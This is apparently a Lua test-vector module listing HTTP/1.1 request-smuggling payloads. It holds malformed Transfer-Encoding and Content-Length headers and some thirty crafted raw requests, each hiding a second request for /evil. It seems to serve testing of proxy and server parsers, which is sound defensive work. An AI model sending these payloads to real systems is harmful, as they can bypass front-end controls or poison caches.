-- SPDX-License-Identifier: MIT
--
-- Requests by which a proxy and a server may disagree about where a request ends (RFC 9112, 11.2): each hides a request
-- for /evil in another one.

local http = require "http"
local request = http.request

local EVIL = "GET /evil HTTP/1.1\r\nHost: a\r\n\r\n"

-- Field lines that a lenient proxy may read as Transfer-Encoding: chunked, or ignore.
local codings = {
    "Transfer-Encoding : chunked", "Transfer-Encoding\t: chunked", " Transfer-Encoding: chunked",
    "Transfer-Encoding: xchunked", "Transfer-Encoding: chunkedx", "Transfer-Encoding:\vchunked",
    "Transfer-Encoding:\fchunked", "Transfer-Encoding: \0chunked", "Transfer-Encoding: chunked\0",
    "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: 'chunked'", "Transfer-Encoding: chunk",
    "Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: chunked; a=b", "Transfer-Encoding: ,chunked", "Transfer-Encoding: chunked,",
    "Transfer-Encoding: chunked chunked", "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding:\r\n chunked", "X: y\r\n Transfer-Encoding: chunked",
    "X: y\rTransfer-Encoding: chunked", "X: y\nTransfer-Encoding: chunked",
    "Transfer-Encoding\0: chunked", "Transfer-Encoding\x85: chunked",
    "\0Transfer-Encoding: chunked", "Transfer-Encoding: \x85chunked",
    "Transfer-Encoding: \xa0chunked", "Transfer-Encoding: chunked\xff",
    "Transfer-Encoding", "Transfer-Encoding chunked", "Transfer-Encoding;: chunked",
    "[Transfer-Encoding: chunked", "Transfer-Encoding: chu\r\n nked", "Transfer\rEncoding: chunked",
    "Transfer-Encoding: chunked\r", "Transfer-Encoding:\n chunked", "Transfer-Encoding: chunked\n",
}

-- Field lines that a lenient proxy may read as a Content-Length, or ignore.
local lengths = {
    "Content-Length : 33", "Content-Length\t: 33", " Content-Length: 33", "Content-Length: +33",
    "Content-Length: 0x21", "Content-Length: 3 3", "Content-Length: 33\0", "Content-Length: \v33",
    "Content-Length: 33\v", "Content-Length: 33 0", "Content-Length: 0, 33",
    "Content-Length: 33, 33",
    "Content-Length: 33;", "Content-Length: \"33\"", "Content-Length:\r\n 33",
    "X: y\r\n Content-Length: 33", "X: y\nContent-Length: 33", "X: y\rContent-Length: 33",
    "Content-Length\0: 33", "Content-Length\xa0: 33", "Content-Length:",
    "Content-Length: 33\r\nContent-Length: 0", "Content-Length: 0\r\nContent-Length: 33",
    "Content-Length:\r\nContent-Length: 33", "Content-Length: 33\r\nContent-Length:",
    "Content-Length: 4294967329", "Content-Length: 18446744073709551649", "Content-Length: 33e0",
    "Content-Length: -1", "Content-Length: \x8533", "Content-Length 33", "Content-Length: 33\r",
}

local others = {
    {"a chunk's size ends with a bare LF", http.chunked("21;\n" .. EVIL .. "\r\n0\r\n\r\n")},
    {"a chunk's size ends with a bare CR", http.chunked("21\r" .. EVIL .. "\r\n0\r\n\r\n")},
    {"a bare CR in an extension", http.chunked("5\r;hello\r\n2c\r\nhello\r\n0\r\n\r\n" .. EVIL)},
    {"a bare LF in an extension", http.chunked("5;a\nhello\r\n0\r\n\r\n" .. EVIL)},
    {"one byte too many before the next chunk", http.chunked("4\r\nhello\r\n0\r\n\r\n" .. EVIL)},
    {"any two bytes after a chunk", http.chunked("5\r\nhelloXX0\r\n\r\n" .. EVIL)},
    {"a chunk without its end", http.chunked("5\r\nhello0\r\n\r\n" .. EVIL)},
    {"a size that overflows to 0", http.chunked("10000000000000000\r\n\r\n" .. EVIL)},
    {"a size with an underscore", http.chunked("0_21\r\n\r\n" .. EVIL)},
    {"a size of 0x0", http.chunked("0x0\r\n\r\n" .. EVIL)},
    {"a size of -0", http.chunked("-0\r\n\r\n" .. EVIL)},
    {"a folded trailer", http.chunked("0\r\nX: y\r\n z: a\r\n\r\n" .. EVIL)},
    {"a trailer that is a request", http.chunked("0\r\n" .. EVIL)},
    {"a trailer with a bare LF", http.chunked("0\r\nX: y\n\r\n" .. EVIL)},
    {"a trailer's end with a bare LF", http.chunked("0\r\n\n" .. EVIL)},
    {"a head's end with a bare LF", "GET / HTTP/1.1\r\nHost: a\r\n\n" .. EVIL},
    {"a head's end with two LF", "GET / HTTP/1.1\nHost: a\n\n" .. EVIL},
    {"a CR before a head's end", "GET / HTTP/1.1\r\nHost: a\r\n\r\r\n" .. EVIL},
    {"two requests in one line", "GET / HTTP/1.1 GET /evil HTTP/1.1\r\nHost: a\r\n\r\n"},
    {"a request in a version", "GET / HTTP/1.1\rGET /evil HTTP/1.1\r\nHost: a\r\n\r\n"},
    {"Host twice", http.bare("GET / HTTP/1.1", "Host: a", "Host: evil")},
    {"Host twice, the second folded away", "GET / HTTP/1.1\r\nHost: a\r\n Host: evil\r\n\r\n"},
    {"Host twice, the first with a blank", http.bare("GET / HTTP/1.1", "Host : evil", "Host: a")},
    {"HTTP/1.0 with chunks", request("POST / HTTP/1.0", "Connection: keep-alive",
                                     "Transfer-Encoding: chunked") .. "0\r\n\r\n" .. EVIL},
    {"a version between 0.9 and 1.0", "GET / HTTP/0.9\r\n\r\n" .. EVIL},
    {"HTTP/0.9, and more after it", "GET /\r\n" .. EVIL},
    {"a NUL between two fields", "GET / HTTP/1.1\r\nHost: a\r\n\0\r\n" .. EVIL},
    {"an empty name before a length", request("POST /", ": x", "Content-Length: 33") .. EVIL},
    {"a body for CONNECT", request("CONNECT a:80", "Content-Length: 33") .. EVIL},
    {"an Upgrade to HTTP/2 without asking", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" .. EVIL},
}

return {EVIL = EVIL, codings = codings, lengths = lengths, others = others}
